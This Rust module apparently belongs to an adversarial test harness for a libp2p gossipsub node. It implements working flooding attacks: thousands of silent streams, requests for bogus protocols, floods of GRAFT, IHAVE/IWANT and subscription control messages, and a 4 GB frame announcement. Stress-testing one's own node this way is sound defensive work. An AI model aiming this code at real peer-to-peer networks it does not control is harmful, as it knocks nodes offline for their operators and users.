//! Attacks inside a good connection: streams without end, and gossip's own control messages.

use std::time::Duration;

use futures::{AsyncWriteExt, StreamExt};
use libp2p::{
    Multiaddr, PeerId, StreamProtocol, Swarm, SwarmBuilder, identity::Keypair, multiaddr::Protocol, noise,
    tcp, yamux,
};
use libp2p_stream::Control;
use tokio::task::JoinHandle;

use super::{Target, sockets::random_bytes};

/// What gossip speaks.
const GOSSIP: StreamProtocol = StreamProtocol::new("/meshsub/1.1.0");
/// Streams that the attacker keeps open, if it is let.
const STREAMS: usize = 5_000;
/// Entries in a control message.
const ENTRIES: usize = 1_000;

/// A connection with a good handshake; it ends with this.
struct Connection {
    control: Control,
    peer: PeerId,
    swarm: JoinHandle<()>,
}

impl Drop for Connection {
    fn drop(&mut self) {
        self.swarm.abort();
    }
}

async fn connect(target: &Target, seed: u8) -> Option<Connection> {
    let keys = Keypair::ed25519_from_bytes(&mut [seed; 32]).ok()?;
    let builder = SwarmBuilder::with_existing_identity(keys).with_tokio();
    let builder =
        builder.with_tcp(tcp::Config::default(), noise::Config::new, yamux::Config::default).ok()?;
    let mut swarm: Swarm<libp2p_stream::Behaviour> =
        builder.with_behaviour(|_| libp2p_stream::Behaviour::new()).ok()?.build();
    let peer = realdid_network::peer_id(&target.key)?;
    let address = Multiaddr::from(target.public.ip()).with(Protocol::Tcp(target.public.port()));
    swarm.dial(address.with(Protocol::P2p(peer))).ok()?;
    let control = swarm.behaviour().new_control();
    let swarm = tokio::spawn(async move { while swarm.next().await.is_some() {} });
    tokio::time::sleep(Duration::from_millis(100)).await;
    Some(Connection { control, peer, swarm })
}

/// Opens streams and says nothing on them.
pub async fn silent(target: Target) {
    let Some(mut connection) = connect(&target, 0xb1).await else { return };
    let Ok(protocol) = StreamProtocol::try_from_owned(format!("/realdid/{}/questions/1", target.network()))
    else {
        return;
    };
    let mut open = Vec::new();
    while !target.is_over() && open.len() < STREAMS {
        match connection.control.open_stream(connection.peer, protocol.clone()).await {
            Ok(stream) => open.push(stream),
            Err(_) => tokio::time::sleep(Duration::from_millis(1)).await,
        }
    }
}

/// Asks for protocols that nobody speaks.
pub async fn unknown_protocols(target: Target) {
    let Some(mut connection) = connect(&target, 0xb2).await else { return };
    let mut number = 0_u64;
    while !target.is_over() {
        number += 1;
        let Ok(protocol) = StreamProtocol::try_from_owned(format!("/nothing/{number}")) else { return };
        let _ = connection.control.open_stream(connection.peer, protocol).await;
    }
}

/// Writes the same frames to gossip again and again, over a new stream and connection whenever one is closed.
async fn gossip(target: &Target, seed: u8, frame: impl Fn(u64) -> Vec<u8>) {
    let mut number = 0;
    while !target.is_over() {
        let Some(mut connection) = connect(target, seed).await else { return };
        let Ok(mut stream) = connection.control.open_stream(connection.peer, GOSSIP).await else { continue };
        while !target.is_over() {
            number += 1;
            if stream.write_all(&frame(number)).await.is_err() {
                break;
            }
            tokio::task::yield_now().await;
        }
    }
}

/// Wants to be in the mesh of topics that there are and of topics that there are not.
pub async fn grafts(target: Target) {
    let known = format!("/realdid/{}/batches/1", target.network());
    gossip(&target, 0xb3, |number| {
        let graft =
            |entry: u64| if entry.is_multiple_of(2) { known.clone() } else { format!("{number}/{entry}") };
        rpc(3, &entries(|entry| field(3, &field(1, graft(entry).as_bytes()))))
    })
    .await;
}

/// Says that it has messages that it has not, and wants messages that nobody has.
pub async fn rumours(target: Target) {
    let topic = format!("/realdid/{}/batches/1", target.network());
    gossip(&target, 0xb4, |number| {
        let names = entries(|entry| field(2, &random_bytes(number ^ (entry << 32), 32)));
        let have = field(1, &[field(1, topic.as_bytes()), names].concat());
        let wanted = entries(|entry| field(1, &random_bytes(number ^ (entry << 33), 32)));
        rpc(3, &[have, field(2, &wanted)].concat())
    })
    .await;
}

/// Subscribes to topics that nobody has heard of.
pub async fn subscriptions(target: Target) {
    gossip(&target, 0xb5, |number| {
        let topic = |entry: u64| field(2, format!("topic {number} {entry}").as_bytes());
        framed(&entries(|entry| field(1, &[vec![0x08, 1], topic(entry)].concat())))
    })
    .await;
}

/// Announces a frame of four gigabytes.
pub async fn absurd_frame(target: Target) {
    gossip(&target, 0xb6, |_| [varint(u64::from(u32::MAX)), vec![7; 1_000]].concat()).await;
}

fn entries(entry: impl Fn(u64) -> Vec<u8>) -> Vec<u8> {
    (0..ENTRIES as u64).flat_map(entry).collect()
}

/// A message with one field, behind its length.
fn rpc(number: u64, body: &[u8]) -> Vec<u8> {
    framed(&field(number, body))
}

fn framed(body: &[u8]) -> Vec<u8> {
    [varint(body.len() as u64), body.to_vec()].concat()
}

/// A field of protobuf with bytes in it.
fn field(number: u64, body: &[u8]) -> Vec<u8> {
    [varint(number << 3 | 2), varint(body.len() as u64), body.to_vec()].concat()
}

fn varint(mut value: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    while value >= 0x80 {
        bytes.push(value as u8 | 0x80);
        value >>= 7;
    }
    bytes.push(value as u8);
    bytes
}
